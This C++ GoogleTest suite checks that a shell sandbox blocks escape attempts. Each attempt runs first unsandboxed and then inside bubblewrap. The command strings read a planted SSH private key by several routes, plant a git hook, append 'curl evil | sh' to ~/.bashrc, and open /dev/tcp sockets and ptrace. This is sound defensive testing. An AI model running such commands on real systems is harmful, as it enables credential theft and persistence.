// The escape suite: every attempt is run twice, first without the sandbox, where it must work
// (so the attempt is real), then in the sandbox, where it must fail.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <thread>

#include "exec/env.h"
#include "exec/procs.h"
#include "pipeline/run_shell_command.h"
#include "sandbox/bwrap.h"

namespace safesh::sandbox {
namespace {

using pipeline::RunResult;
namespace fs = std::filesystem;

class Escape : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string why = ProbeBwrap(FindBwrap(), false);
    if (!why.empty()) GTEST_SKIP() << why;
    char t[] = "/tmp/safesh-escape-XXXXXX";
    dir_ = mkdtemp(t);
    home_ = dir_ + "/home";
    ws_ = dir_ + "/ws";
    fs::create_directories(home_ + "/.ssh");
    fs::create_directories(ws_ + "/.git");
    std::ofstream(home_ + "/.ssh/id_ed25519") << "PRIVATE-KEY-" << getpid() << "\n";
    std::ofstream(ws_ + "/.git/config") << "[core]\n";
    context_.workspace = ws_;
    context_.home = home_;
    context_.spool_base = dir_ + "/state/safesh/spool";
    context_.environment = exec::CurrentEnvironment();
    context_.prompter = [](const approval::ApprovalRequest&) { return approval::Answer::kApprove; };
  }
  void TearDown() override {
    if (!dir_.empty()) fs::remove_all(dir_);
  }

  RunResult Run(const std::string& command, const std::string& mode) {
    context_.settings.sandbox.shell = mode;
    pipeline::RunRequest r;
    r.command = command;
    r.timeout_seconds = 20;
    return pipeline::RunShellCommand(r, context_);
  }

  // The attempt works without the sandbox (its output contains `success`) and not within it.
  void ExpectBlocked(const std::string& command, const std::string& success,
                     const std::function<void()>& reset = nullptr) {
    RunResult off = Run(command, "off");
    ASSERT_EQ(off.sandbox_mode, "off");
    ASSERT_NE(off.output.find(success), std::string::npos)
        << "the attempt does not work even without the sandbox: " << command << "\n"
        << off.output;
    if (reset) reset();
    RunResult in = Run(command, "required");
    ASSERT_EQ(in.sandbox_mode, "bwrap") << in.error;
    EXPECT_EQ(in.output.find(success), std::string::npos)
        << "escaped the sandbox: " << command << "\n"
        << in.output;
  }

  std::string dir_, home_, ws_;
  pipeline::RunContext context_;
};

TEST_F(Escape, WriteOutsideTheRoots) {
  // The real home folder: writable by whoever runs the tests, and not a root of the sandbox
  // (the sandbox's home here is a temporary one).
  const char* real_home = getenv("HOME");
  if (real_home == nullptr || real_home[0] != '/' || std::string(real_home).starts_with("/tmp"))
    GTEST_SKIP() << "needs a HOME outside /tmp";
  std::string target = std::string(real_home) + "/.safesh-escape-" + std::to_string(getpid());
  ExpectBlocked("echo x > " + target + " && echo WROTE", "WROTE", [&] { fs::remove(target); });
  EXPECT_FALSE(fs::exists(target));
  // Inside the workspace writing works.
  RunResult in = Run("echo x > inside && echo WROTE", "required");
  EXPECT_EQ(in.output, "WROTE\n");
}

TEST_F(Escape, ReadABlockedPathEveryWay) {
  std::string key = home_ + "/.ssh/id_ed25519";
  for (const std::string& how :
       {"cat " + key, "cat " + ws_ + "/../home/.ssh/id_ed25519", "cat /proc/self/root" + key,
        "ln -s " + key + " link && cat link", "cd " + home_ + " && cat .ssh/id_ed25519",
        "cat $(ls -d " + home_ + "/.ssh)/*"}) {
    ExpectBlocked(how, "PRIVATE-KEY", [&] { fs::remove(ws_ + "/link"); });
    fs::remove(ws_ + "/link");
  }
  // A hard link made inside the sandbox does not reach the file either.
  RunResult in = Run("ln " + key + " hard 2>&1; cat hard 2>&1", "required");
  EXPECT_EQ(in.output.find("PRIVATE-KEY"), std::string::npos) << in.output;
}

TEST_F(Escape, ProtectedGitNamesAndStartupFiles) {
  ExpectBlocked("mkdir -p .git/hooks && echo 'touch pwned' > .git/hooks/pre-commit && echo MADE",
                "MADE", [&] { fs::remove_all(ws_ + "/.git/hooks"); });
  ExpectBlocked("echo '[core] fsmonitor = x' >> .git/config && echo CHANGED", "CHANGED");
  // The home folder made writable: its start-up files still are not.
  context_.settings.sandbox.writable_paths = {home_};
  ExpectBlocked("echo 'curl evil | sh' >> ~/.bashrc && echo CHANGED", "CHANGED",
                [&] { fs::remove(home_ + "/.bashrc"); });
  context_.settings.sandbox.allow_git_config = true;
  RunResult in = Run("echo '# ok' >> .git/config && echo CHANGED", "required");
  EXPECT_EQ(in.output, "CHANGED\n") << in.error;
}

TEST_F(Escape, Network) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(listen(s, 16), 0);
  socklen_t len = sizeof a;
  getsockname(s, reinterpret_cast<sockaddr*>(&a), &len);
  std::string port = std::to_string(ntohs(a.sin_port));
  ExpectBlocked("exec 3<>/dev/tcp/127.0.0.1/" + port + " && echo CONNECTED", "CONNECTED");
  ExpectBlocked("echo x > /dev/udp/127.0.0.1/" + port + " && echo SENT", "SENT");
  ExpectBlocked(std::string(SAFESH_ESCAPE_HELPER) + " inet", "ok");
  close(s);
  context_.settings.sandbox.allow_network = true;
  RunResult in = Run(std::string(SAFESH_ESCAPE_HELPER) + " inet", "required");
  EXPECT_EQ(in.output, "ok\n");
}

TEST_F(Escape, SystemCallsTheFilterRefuses) {
  const std::string helper = SAFESH_ESCAPE_HELPER;
  // ptrace of a process of the same user outside the sandbox: this test.
  ExpectBlocked(helper + " ptrace " + std::to_string(getpid()), "ok");
  ExpectBlocked(helper + " tiocsti", "ok");
  ExpectBlocked(helper + " keyctl", "ok");
  ExpectBlocked(helper + " unshare_mount", "ok");
  RunResult off = Run(helper + " io_uring", "off");
  if (off.output == "ok\n") {
    ExpectBlocked(helper + " io_uring", "ok");
  } else {
    GTEST_LOG_(INFO) << "io_uring is not available here: " << off.output;
  }
}

TEST_F(Escape, NoCapabilitiesEvenAsRoot) {
  if (geteuid() != 0) GTEST_SKIP() << "only root has capabilities to lose";
  ExpectBlocked("mknod disk b 8 0 && echo MADE", "MADE", [&] { fs::remove(ws_ + "/disk"); });
}

TEST_F(Escape, HostProcessesAreInvisible) {
  ExpectBlocked("test -d /proc/" + std::to_string(getpid()) + " && echo SEEN", "SEEN");
}

TEST_F(Escape, NothingIsLeftBehind) {
  std::string marker = testing::UniqueSleep();
  RunResult r =
      Run(marker + " & setsid " + marker + " & (" + marker + " &) ; echo started", "required");
  EXPECT_EQ(r.output, "started\n");
  EXPECT_TRUE(testing::WaitUntilGone(marker).empty());
}

}  // namespace
}  // namespace safesh::sandbox
